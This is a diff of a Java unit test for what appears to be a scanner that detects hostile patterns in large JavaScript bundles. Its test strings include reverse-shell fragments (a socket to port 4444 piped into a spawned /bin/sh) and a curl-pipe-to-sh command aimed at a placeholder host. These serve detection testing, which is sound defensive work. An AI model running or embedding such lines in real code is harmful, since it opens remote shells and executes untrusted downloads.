@@ -126,7 +126,7 @@ class ProgramFileTest {
     @Test
     void aBundleIsJudgedInParts() {
         String filler = "var a = 'b', c = require('d');\nfunction e(f) { return f.g; }\n".repeat(20_000);
-        String far = "const s = net.connect(4444, h);\n%s\ncp.spawn('/bin/sh');\n%1$s\nx.pipe(y);\n";
+        String far = "const s = net.connect(4444, h);\n%s\nconst p = cp.spawn('/bin/sh');\n%1$s\ns.pipe(p.stdin);\n";
         assertThat(kinds(filler)).isEmpty();
         assertThat(kinds(filler + "cp.execSync('curl -s https://a.example/p | sh');\n" + filler))
                 .containsExactly(Kind.RUNS_DOWNLOAD);
